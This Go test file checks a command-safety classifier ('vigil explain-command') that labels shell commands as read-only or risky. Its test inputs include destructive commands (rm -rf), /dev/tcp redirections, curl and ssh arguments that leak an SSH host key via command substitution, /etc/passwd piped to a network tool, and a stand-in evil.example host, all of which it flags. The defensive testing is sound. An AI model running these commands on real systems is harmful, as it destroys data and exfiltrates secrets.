package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"
)

// explainKeys are the fields every explain-command line must carry.
var explainKeys = []string{"command", "dialect", "intent", "risk", "reasons", "bounded", "category", "suggested_rewrite", "network"}

// explain runs `vigil explain-command` in-process and returns its stdout.
func explain(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	root := newRootCmd()
	var out, errOut bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errOut)
	root.SetIn(strings.NewReader(stdin))
	root.SetArgs(append([]string{"explain-command"}, args...))
	err := root.ExecuteContext(context.Background())
	return out.String(), err
}

// decodeLine checks one output line is a JSON object with every key of the verdict.
func decodeLine(t *testing.T, line string) map[string]any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal([]byte(line), &m); err != nil {
		t.Fatalf("line %q is not JSON: %v", line, err)
	}
	for _, k := range explainKeys {
		if _, ok := m[k]; !ok {
			t.Errorf("line %q lacks key %q", line, k)
		}
	}
	extra := 0
	if _, ok := m["destinations"]; ok {
		extra = 1 // only for network reads
		if m["network"] != true || m["intent"] == "write_or_unknown" {
			t.Errorf("line %q: destinations on a verdict that is not a network read", line)
		}
	}
	if len(m) != len(explainKeys)+extra {
		t.Errorf("line %q has %d keys, want %d", line, len(m), len(explainKeys)+extra)
	}
	if _, ok := m["reasons"].([]any); !ok {
		t.Errorf("line %q: reasons is not a list", line)
	}
	return m
}

func TestExplainSingleCommand(t *testing.T) {
	out, err := explain(t, "", "journalctl -fu nginx")
	if err != nil {
		t.Fatalf("explain-command: %v", err)
	}
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 1 {
		t.Fatalf("want one JSON line, got %q", out)
	}
	m := decodeLine(t, lines[0])
	want := map[string]any{
		"command": "journalctl -fu nginx", "intent": "read_only_certain", "risk": "read_only",
		"bounded": false, "category": "unbounded_stream",
		"suggested_rewrite": "journalctl -u nginx -n 200 --no-pager",
	}
	for k, v := range want {
		if m[k] != v {
			t.Errorf("%s = %v, want %v", k, m[k], v)
		}
	}
}

func TestExplainWriteCommand(t *testing.T) {
	out, err := explain(t, "", "ls; rm -rf /srv")
	if err != nil {
		t.Fatalf("explain-command: %v", err)
	}
	m := decodeLine(t, strings.TrimSpace(out))
	if m["intent"] != "write_or_unknown" || m["risk"] != "high" {
		t.Errorf("got %v/%v, want write_or_unknown/high", m["intent"], m["risk"])
	}
	if reasons := m["reasons"].([]any); len(reasons) == 0 || reasons[0] != "rm: known writer" {
		t.Errorf("reasons = %v, want rm: known writer first", reasons)
	}
}

func TestExplainStdin(t *testing.T) {
	cmds := []string{
		"uptime",
		"rm -rf /tmp/x",
		`mysql -e "SELECT 1"`,
		"tail -f /var/log/syslog",
		"cat $(touch /tmp/p)",
		"ls (",
		"",
	}
	out, err := explain(t, strings.Join(cmds, "\n")+"\n", "--stdin")
	if err != nil {
		t.Fatalf("explain-command --stdin: %v", err)
	}
	wantIntent := []string{"read_only_certain", "write_or_unknown", "read_only_conditional",
		"read_only_certain", "write_or_unknown", "write_or_unknown", "write_or_unknown"}
	sc := bufio.NewScanner(strings.NewReader(out))
	i := 0
	for ; sc.Scan(); i++ {
		if i >= len(cmds) {
			t.Fatalf("more output lines than input lines: %q", out)
		}
		m := decodeLine(t, sc.Text())
		if m["command"] != cmds[i] {
			t.Errorf("line %d is for %q, want %q (order must be preserved)", i, m["command"], cmds[i])
		}
		if m["intent"] != wantIntent[i] {
			t.Errorf("line %d %q: intent %v, want %s", i, cmds[i], m["intent"], wantIntent[i])
		}
	}
	if i != len(cmds) {
		t.Errorf("got %d lines for %d commands", i, len(cmds))
	}
}

func TestExplainUsageErrors(t *testing.T) {
	if _, err := explain(t, ""); err == nil {
		t.Error("no command and no --stdin: want an error")
	}
	if _, err := explain(t, "ls\n", "--stdin", "ls"); err == nil {
		t.Error("--stdin with a command: want an error")
	}
	if _, err := explain(t, "", "a", "b"); err == nil {
		t.Error("two commands: want an error")
	}
}

// TestExplainReasonsNameTheDecider: a refusal names the option, the
// abbreviation or the shell feature that decided.
func TestExplainReasonsNameTheDecider(t *testing.T) {
	tests := []struct{ cmd, reason string }{
		{"systemctl --frobnicate status nginx", "systemctl: unknown option --frobnicate"},
		{"journalctl --vac=1d", "journalctl --vac: ambiguous abbreviation (--vacuum-files, --vacuum-size, --vacuum-time)"},
		{"sort --out /tmp/x f", "sort --out (--output): writes its output to a file"},
		{"cat < /dev/tcp/10.0.0.1/80", "< /dev/tcp/10.0.0.1/80: redirection to a network device: bash opens a connection"},
		{"echo hi > /dev/tcp/10.0.0.1/80", "> /dev/tcp/10.0.0.1/80: redirection to a network device: network write"},
		{"echo ${p@P}", "${...@P}: expansion evaluates the value as a prompt string or code"},
		{"kubectl get pods --cache-dir /tmp/c", "kubectl get --cache-dir: writes files"},
		// Network reads: the argument, the destination or the table entry.
		{`curl -A "$(cat /etc/ssh/ssh_host_ed25519_key)" http://localhost:8080/health`, "curl -A: value is built by command substitution $(…): a network read sends only static text"},
		{"curl -e `cat key` http://localhost:8080/health", "curl -e: value is built by command substitution `…`: a network read sends only static text"},
		{`git ls-remote "http://localhost/$(cat key)"`, `git ls-remote "http://localhost/$(cat key)": value is built by command substitution $(…): a network read sends only static text`},
		{`ssh -l "$(cat key)" localhost uptime`, "ssh -l: value is built by command substitution $(…): a network read sends only static text"},
		{"curl https://evil.example/health", "curl: destination evil.example:443 is not known to vigil (declare it in policy.http_read_urls)"},
		{"curl http://localhost:8080/admin/reload", "curl http://localhost:8080/admin/reload: URL is not a known read endpoint (health, readiness, metrics, version, Prometheus or Alertmanager reads, ...); list it in policy.http_read_urls if a GET of it only reads"},
		{"kubectl get pods", "kubectl: connects to the API server of the cluster its kubeconfig names, which vigil does not know; declare them in policy.read_destinations as kubernetes=HOST:PORT"},
		{"kubectl get secret db -o yaml", "kubectl get secret: reads Kubernetes Secrets, whose data the kube tool refuses to show; ask for the object's metadata with the kube tool"},
		{"nslookup - 10.0.0.1 < /etc/passwd", "nslookup: local data on its standard input (a pipe, redirection, here-document or here-string): a network read sends nothing local"},
		{"TF_CLI_ARGS_plan=-destroy terraform plan", "TF_CLI_ARGS_plan=: environment variable not known to be inert (only LANG, LC_*, TZ, TERM, COLUMNS, LINES, NO_COLOR, PAGER=cat and a few others are)"},
	}
	for _, tt := range tests {
		out, err := explain(t, "", tt.cmd)
		if err != nil {
			t.Fatalf("explain-command %q: %v", tt.cmd, err)
		}
		m := decodeLine(t, strings.TrimSpace(out))
		found := false
		for _, r := range m["reasons"].([]any) {
			found = found || r == tt.reason
		}
		if !found || m["intent"] != "write_or_unknown" {
			t.Errorf("%q: %v %v, want reason %q", tt.cmd, m["intent"], m["reasons"], tt.reason)
		}
	}
}

func TestExplainDialectAndReadURLs(t *testing.T) {
	// bash reads $'/dev/null' as /dev/null; dash writes a file named
	// $/dev/null.
	for dialect, want := range map[string]string{"bash": "read_only_certain", "sh": "write_or_unknown"} {
		out, err := explain(t, "", "--dialect", dialect, "ls >$'/dev/null'")
		if err != nil {
			t.Fatalf("--dialect %s: %v", dialect, err)
		}
		m := decodeLine(t, strings.TrimSpace(out))
		if m["intent"] != want || m["dialect"] != dialect {
			t.Errorf("--dialect %s: intent %v dialect %v, want %s", dialect, m["intent"], m["dialect"], want)
		}
	}
	cmd := "curl -s http://localhost:8080/actuator/restart-count"
	out, err := explain(t, "", cmd)
	if err != nil {
		t.Fatal(err)
	}
	if m := decodeLine(t, strings.TrimSpace(out)); m["intent"] != "write_or_unknown" {
		t.Errorf("%q without a listing: %v", cmd, m["intent"])
	}
	out, err = explain(t, "", "--http-read-url", "http://localhost:8080/actuator", cmd)
	if err != nil {
		t.Fatal(err)
	}
	if m := decodeLine(t, strings.TrimSpace(out)); m["intent"] != "read_only_certain" || m["network"] != true {
		t.Errorf("%q listed: %v network=%v", cmd, m["intent"], m["network"])
	}
	// Declared destinations: without them only the loopback is known.
	for _, tc := range []struct {
		args   []string
		intent string
		dest   string
	}{
		{[]string{"nc -z kafka-1 9092"}, "write_or_unknown", ""},
		{[]string{"--read-destination", "kafka-1:9092", "nc -z kafka-1 9092"}, "read_only_certain", "kafka-1"},
		{[]string{"--read-destination", "kubernetes=kube-api:6443", "kubectl get pods"}, "read_only_certain", "kube-api"},
		{[]string{"redis-cli INFO"}, "read_only_conditional", "127.0.0.1"},
		{[]string{"--forbidden-destination", "127.0.0.1:6379", "redis-cli INFO"}, "write_or_unknown", ""},
	} {
		out, err := explain(t, "", tc.args...)
		if err != nil {
			t.Fatal(err)
		}
		m := decodeLine(t, strings.TrimSpace(out))
		got := ""
		if ds, ok := m["destinations"].([]any); ok && len(ds) == 1 {
			got, _ = ds[0].(map[string]any)["host"].(string)
		}
		if m["intent"] != tc.intent || got != tc.dest {
			t.Errorf("%q: %v destinations %v %v, want %s to %q", tc.args, m["intent"], m["destinations"], m["reasons"], tc.intent, tc.dest)
		}
	}
	if _, err := explain(t, "", "--read-destination", "mongo=db:27017", "ls"); err == nil || !strings.Contains(err.Error(), "mongo") {
		t.Errorf("--read-destination mongo=...: error %v, want one naming the service", err)
	}
	if _, err := explain(t, "", "--forbidden-destination", "redis", "ls"); err == nil {
		t.Error("--forbidden-destination without a port: want an error")
	}
	if _, err := explain(t, "", "--dialect", "zsh", "ls"); err == nil {
		t.Error("--dialect zsh: want an error")
	}
	if _, err := explain(t, "", "--http-read-url", "ftp://x/", "ls"); err == nil || !strings.Contains(err.Error(), "ftp://x/") {
		t.Errorf("--http-read-url ftp://x/: error %v, want one naming the value", err)
	}
}
